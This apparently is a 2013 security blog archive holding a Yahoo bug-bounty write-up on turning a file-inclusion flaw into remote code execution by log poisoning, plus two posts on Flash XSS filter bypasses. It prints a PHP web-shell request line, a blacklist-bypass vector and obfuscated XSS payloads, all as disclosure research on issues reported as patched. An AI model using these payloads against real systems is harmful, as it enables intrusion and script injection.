Monthly Archives: October 2013

Yahoo bug bounty program – LFI reported and patched!


Yahoo! bug bounty program is still young and I believe that they have been pushed to do this when they were not ready for it! Many of their web pages had not even been scanned by an automatic commercialscanner when they started running their bounty program and they will definitely lose profit on that. I guess this is the price that they are willing to pay to satisfy their customers. Other high profile companies that still do not care about an appropriate bug bounty program for their websites and their applications should rethink now! Thanks to the available bug bounty programs, the number of bounty hunters is now increased and the power of this community is growing everyday and this will save time and money for any company in the long run.

I remember the time that you could find at least one XSS in less than an hour and a SQLi in a few hours in Yahoo websites ( Now their bug bounty program is going to change this situation and the customers who have migrated to Gmail to have more security (I personally did that), may still use their Yahoo account!However, it is still too early to say anything about Yahoo bug bounty program and we have to wait a few months to see their stable policy. There are security researchers who have reported more than 20 XSS issues to Yahoo now and they are waiting for their rewards! It is very interesting to see how much Yahoo will pay for any particular issue and how they are going to categorize the issues to pay from $150 for low risk issues to $15,000 for high risk issues. More info about Yahoo bug bounty programs from Ramses Martinez -Director, Yahoo Paranoids-:

Now, I am going to share my experience in reporting a critical issue to Yahoo just for future reference (I am not going to talk about the XSS issues that I have reported to them).

LFI gave me RCE on “” server!

I found a LFI issue in the following URL (it gives me the 404-error now!):


Interestingly, some of the users of this server had already left Yahoo a while ago but their user was still there! But this was not my concern; finding this issue was too easy and minimum skills were needed. However, exploitation was tricky as I could not find the log-files path on these Yahoo FreeBSD servers. I reported the issue to Yahoo at this point but I wanted to prove that this is a highly critical issue. So I searched in Google and by using try and error, I finally managed to find the log-file that I was looking for: “/home/y/logs/yapache/error”. Then, I just had to create an error! I sent a GET request with spaces in the request to cause 400-error-status and logmy backdoor inside the log-file:

GET /<? passthru($_GET[cmd]) ?> HTTP/1.1

And now I could execute any commands on the server:


I ran a few commands (no network commands) and looked at the content of some PHP files but as I was not sure if I am allowed to continue, I stopped. Ramses Martinez (Director, Yahoo! Security Team) allowed me later to download the web files in order to find more vulnerabilities but when I looked into it the day after, the issue was fixed and it was too little too late to complete my glory ;) they were quite quick to address this issue as soon as they saw my email at the weekend.

I wish there was a policy that could tell me what I am allowed to do when Ihave RCE on the server in a bug bounty program. I did not even try to look at the sensitive files that could contain credentials such as database passwords as I was not sure about the legal side of my testing.


Fri, Oct 4, 2013 at 11:13 PM: Initial report of LFI to Yahoo

Sat, Oct 5, 2013 at 12:47 AM: LFI converted to RCE reported to Yahoo

Sun, Oct 6, 2013 at 6:19 PM: First contact from Yahoo directly from Ramses Martinez

Mon, Oct 7, 2013 at 3:16 AM: I have been informed that this issue plus other XSS issues that I had reported have been patched.


Ramses’ response: “Please keep in mind that we announced the program going live on 10/30 and we’re not fully operational. Which means we are still working out a few issues. Until that time our response could vary depending on submissions and workload. Work with me here and I’ll make sure that you are taken care of once the program is in place.”

I will update this section as soon as I get any news from Yahoo. The prize is between $150 to $15K based on the risk rating (impact x likelihood [?]) and I am wondering how much they are going to pay for this LFI to RCE issue.

Catch-up on Flash XSS exploitation Part 2 – “navigateToURL” and “jar:” protocol!

I think I have already proven my interest in using simple vectors to bypass available protections (some examples to support my claim!: IIS Semi-colon issue, IIS Short Filename Scanner, Mozilla Firefox Directory Traversal by using resource protocol, etc). Now, I am going to reveal more secrets and this time in Flash and also Internet Explorer!

XSS attack by using different protocols in “navigateToURL” redirections:

Please note that this section may need to be updated in future as I have not spent enough time researching this subject yet! Therefore, if you have found something relevant or if you know a useful tip, please share it with me too.

We know that“navigateToURL” can lead to a Cross Site Scripting or Open Redirect issue. When I was playing with “navigateToURL” function in AS3, I found an interesting protocol that Flash ignores and it is called “jar:” protocol. I had seen this in Firefox before but never in Flash!

In flash binary file, there are also other protocols listed that can be useful for the research purposes but none of them has the unique feature of “jar:” protocol. Their list is as follows:


Some of these protocols are for streaming purposes (such as “rtmps”), some of them are application specific protocols (such as “Ms-its” for IE), and others are generic protocols that we already know about!

jar:” protocol is our invisible friend and a True Warrior!!:

It seems flash ignores “jar:” protocol and it becomes a transparent protocol. In other words, there is no difference between “javascript:alert(1)” and “jar:javascript:alert(1)” in Action Script. I have not yet found any other usage of this protocol (maybe it is vulnerable as well!).

Now if an application uses a blacklist protection to detect “javascript:” or “vbscript:”, it can be easily bypassed!

Here is our vulnerable example code:

    var input:String = root.loaderInfo.parameters.input; // input variable
    var dangerousInput:RegExp = /^\w*script:.*/i; // tocover javascript: and vbscript: protocols!
        // Safe to go?!!! --> No! Whatabout "jar:javascript:"?
        navigateToURL(new URLRequest(input),"_self"); // redirection

And here is the real example:


This Action Script is also vulnerable to XSS by using “data:” protocol in Firefox which I believe is a known issue.

Bypassing local-with-filesystem protection by using “navigateToURL”:

By default, Flash does not allow you to use sensitive protocols such as “File://” or “Ms-its:” in “navigateToURL”. If you try to open “\”, you will receive the following error (you can view the errors by using debugger version of Flash Player):

SecurityError: Error #2148: SWF file\ cannot access local resource file://c:\. Only local-with-filesystem and trusted local SWF files may access local resources.
    at global/
    at MethodInfo-1()
    at com.powerflasher.SampleApp::link_protocol_test()

As you can see in the error message, only local-with-filesystem should be able to use “File:” protocol.

I found out that it is possible to bypass this protection by using “jar:” protocol followed by a restricted protocol and by playingwith slashes and backslashes precedingthe restricted protocol. Andnow it is up to the browsers to protect their users against any possible attack!

I have tested this technique in Google Chrome, Mozilla Firefox, and Internet Explorer and I could not bypass the first two! Which means only Internet Explorer is falling for this bypass method!

Here are some examples of my bypass vectors:

Jar protocol – Opens C drive (note that I use only 1 slash character for the File protocol):


Jar protocol – Opens a file in your local C drive:


Jar protocol – Opens other restricted protocols in IE – example 1:


Jar protocol – Opens other restricted protocols in IE – example 2:


Playing with backslashes without using “jar:” protocol – Opens C drive:


Now you can open any of these links in anIFrame. I have created a PoC in the following link:

As you can see in the PoC link, it is even possible to identify if an item is available or not! As a result, it is possible to enumerate the local hard-drives (what about the internal network? ;) )

Now the question is: “what can I do by opening a local resource in an IFrame?”. I had some thoughts but I asked the same question in my twitter as well to collect more information. I say thank you to the following people who kindly answered my question: @obnosis, @mall0cat, @dveditz, @AbiusX, @cgvwzq, @superevr, @Milad_Bahari.

These are the things we should be able to do by opening the local file system in an IFrame:1- Running a dangerous browser readable file (such as html, swf, and so on) that contains malicious scripts to steal more data, execute command, or target the internal network. In order to exploit thisissue, you need a vulnerable/malicious file with proper extension (IE should be able to open it) in the target’s machine. This can be an existent file or a file that has been downloaded to the target. However, you may need the user’s interaction (see this old issue:

2- Hijacking the local sensitive files by using drag-and-drop feature. I should say that I was unable to do this in my PoCs. Maybe I should try harder?!

3- Scanning the local resources.

4- Fingerprinting the users based on their files and directories.Let’s have some fun! I want to open your CDRom!

I have created a PoC to eject the empty CD/DVD drives in IE (tested in IE10) – just like old Trojans!!!:

I have used another advisory of mine to enumerate the valid Drive letters and I am opening them one by one in an IFrame!

Important Update: Adobe Flash has been patched to close JAR protocol issues forever! (



Catch-up on Flash XSS exploitation – bypassing the guardians! – Part 1

Catch-up on Flash XSS exploitation – bypassing the guardians! – Part 1

I had tweeted a few techniques in exploiting XSS in vulnerable flash files a few months ago. I thought it is a good idea to summarise them here and share it with you. I will try to addmore parts to this in future…

Bypassing IE protection/feature against SWF reflected XSS:

It seems only IE as a browser has protections against normal reflected XSS attacks on flash files. For example, if you open the following link in IE10, Javascript won’t have access to the DOM objects:;

Instead, it will show you the following error message in the console (press F12 to see it):

The same script is run easily in Firefox (without NoScript) and Google Chrome. Moreover, the other methods that I had invented previously in the following blog post do not work in IE10: “”.

Now, I have found a workaround to also bypass IE10 protections and run the script:


It is based on the following simple fact:

“javascript:x=”echo”” in the URL, will print “echo” on the screen and it can contain HTML tags. Any script will then have access to the objects of the original page.

Flash URLDecode feature that can be used to bypass possible protections and obfuscate the attack:

If you need to send the vectors to a server behind a firewall (flashvars can be sent after the “#” character to be hidden from the server) or to bypass client-side Anti-XSS protections, this method can be very useful.

Flash discards invalid URL encoded values completely:

A) It discards 2 characters if you have an invalid hex character ([^0-9a-fA-F]) immediately after the percentage character. Example: “%X” or “%=”B) It discards 3 characters if you have a valid hex character after the percentagecharacter followed by an invalid hex character. Example: “%AX” or “%A&”

Note1: During this test, I have observed that sometimes values greater than 127 in ASCII will be converted to a question mark (“?”) character. This happens in URL redirection cases.

Note2: Encoded BOM characters (“%EF%BB%BF”) can also replace the space characters. Example: “alert(1)” can be rewritten as “alert%EF%BB%BF(1)” (

Exploits can even be more deceptive if you use the following vectors: “%#” or “%A#”. It will not send your complete vector to the server because of the “#” character.


Original queries:;'javascript:x="<script>alert(document.domain)</script>"'

New equivalentqueries:;'jav%Zascri%AXpt:x="<sc%AYript>ale%AZrt(docu%?ment.dom%/ain)</sc%&ript>"'

As you can see in these examples, a flash based XSS attack can be obfuscated very well!

NoScript was bypassed initially by using this trick but it has been patched since version ( Thanks to Giorgio Maone (@ma1).

Next Part

I will try to post more related materialsin regards with Flash security. Imay divulge some 0days here…, who knows?